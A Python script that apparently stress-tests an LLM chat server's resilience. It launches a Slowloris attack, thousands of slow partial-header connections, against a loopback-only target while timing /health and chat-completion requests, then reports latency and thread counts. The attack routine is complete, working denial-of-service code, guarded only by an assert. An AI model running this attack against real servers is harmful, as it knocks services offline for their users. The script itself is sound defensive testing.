#!/usr/bin/env python3
"""Slowloris against a running server (loopback only): N connections each send a partial
request head, then one more header byte every second, and reopen when the server cuts
them. Meanwhile one probe thread times GET /health back to back on fresh connections, and a
chat request is sent before and during the attack. Reports /health p50/p99/max, the chat
latencies, how many attack connections were open, and the server's thread count (--pid).

  ulimit -n 20000
  slowloris.py --base-url http://127.0.0.1:8080 --connections 10000 --seconds 30 --pid PID

Prints one JSON object; exits 1 when --max-p99-ms is given and exceeded or a request failed.
"""
import argparse
import asyncio
import http.client
import json
import os
import resource
import statistics
import threading
import time
from urllib.parse import urlparse


def raise_fd_limit(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, want)), hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def threads_of(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/task"))
    except (OSError, TypeError):
        return None


async def loris(host, port, stop, stats):
    """One attack connection: opened, fed a byte a second, reopened when cut."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["open"] += 1
        try:
            writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            while not stop.is_set():
                await asyncio.sleep(1.0)
                if reader.at_eof():
                    break
                writer.write(b"a")
                await writer.drain()
        except (OSError, ConnectionError):
            pass
        finally:
            stats["open"] -= 1
            stats["cut"] += 1
            writer.close()


def timed_request(host, port, method, path, body=None, timeout=60):
    t0 = time.perf_counter()
    c = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        headers = {"Content-Type": "application/json"} if body else {}
        c.request(method, path, body=json.dumps(body) if body else None, headers=headers)
        r = c.getresponse()
        r.read()
        return r.status, (time.perf_counter() - t0) * 1e3
    except OSError as e:
        return str(e), (time.perf_counter() - t0) * 1e3
    finally:
        c.close()


CHAT = {"messages": [{"role": "user", "content": "Say hello."}], "max_tokens": 8, "temperature": 0}


def probe(host, port, stop, out):
    while not stop.is_set():
        status, ms = timed_request(host, port, "GET", "/health", timeout=10)
        out.append((status, ms))
        time.sleep(0.02)


async def attack(args, host, port, stats, stop_event):
    stop = asyncio.Event()
    tasks = []
    for i in range(args.connections):
        tasks.append(asyncio.create_task(loris(host, port, stop, stats)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)  # a ramp, so the listen backlog is not the test
    while not stop_event.is_set():
        await asyncio.sleep(0.1)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--base-url", default="http://127.0.0.1:8080")
    ap.add_argument("--connections", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--pid", type=int)
    ap.add_argument("--max-p99-ms", type=float)
    args = ap.parse_args()
    u = urlparse(args.base_url)
    host, port = u.hostname, u.port
    assert host in ("127.0.0.1", "localhost", "::1"), "loopback only"
    limit = raise_fd_limit(args.connections + 256)

    chat_before = timed_request(host, port, "POST", "/v1/chat/completions", CHAT)
    stats = {"open": 0, "cut": 0, "connect_errors": 0}
    stop_event = threading.Event()
    loop_thread = threading.Thread(
        target=lambda: asyncio.run(attack(args, host, port, stats, stop_event)), daemon=True)
    loop_thread.start()
    # Let the attack ramp up before measuring.
    t0 = time.time()
    while stats["open"] < args.connections * 0.95 and time.time() - t0 < 30:
        time.sleep(0.2)
    open_at_start = stats["open"]
    samples = []
    probe_stop = threading.Event()
    prober = threading.Thread(target=probe, args=(host, port, probe_stop, samples))
    prober.start()
    chats = []
    end = time.time() + args.seconds
    peak_threads = threads_of(args.pid)
    min_open = stats["open"]
    while time.time() < end:
        chats.append(timed_request(host, port, "POST", "/v1/chat/completions", CHAT))
        min_open = min(min_open, stats["open"])
        peak_threads = max(peak_threads or 0, threads_of(args.pid) or 0) or None
        time.sleep(1.0)
    probe_stop.set()
    prober.join()
    stop_event.set()
    loop_thread.join(15)

    ok = [ms for s, ms in samples if s == 200]
    failed = [s for s, _ in samples if s != 200]
    ok.sort()
    p = lambda q: ok[min(len(ok) - 1, int(q * len(ok)))] if ok else None
    report = {
        "connections": args.connections, "fd_limit": limit,
        "attack_open_at_start": open_at_start, "attack_open_min": min_open,
        "attack_cut_and_reopened": stats["cut"], "connect_errors": stats["connect_errors"],
        "health_requests": len(samples), "health_failed": len(failed),
        "health_p50_ms": round(p(0.5), 2) if ok else None,
        "health_p99_ms": round(p(0.99), 2) if ok else None,
        "health_max_ms": round(ok[-1], 2) if ok else None,
        "chat_before": {"status": chat_before[0], "ms": round(chat_before[1], 1)},
        "chat_during": [{"status": s, "ms": round(ms, 1)} for s, ms in chats],
        "chat_during_median_ms": round(statistics.median([ms for _, ms in chats]), 1) if chats else None,
        "server_threads_peak": peak_threads,
    }
    print(json.dumps(report, indent=1))
    bad = failed or any(s != 200 for s, _ in chats) or chat_before[0] != 200
    if args.max_p99_ms is not None and (not ok or p(0.99) > args.max_p99_ms):
        bad = True
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
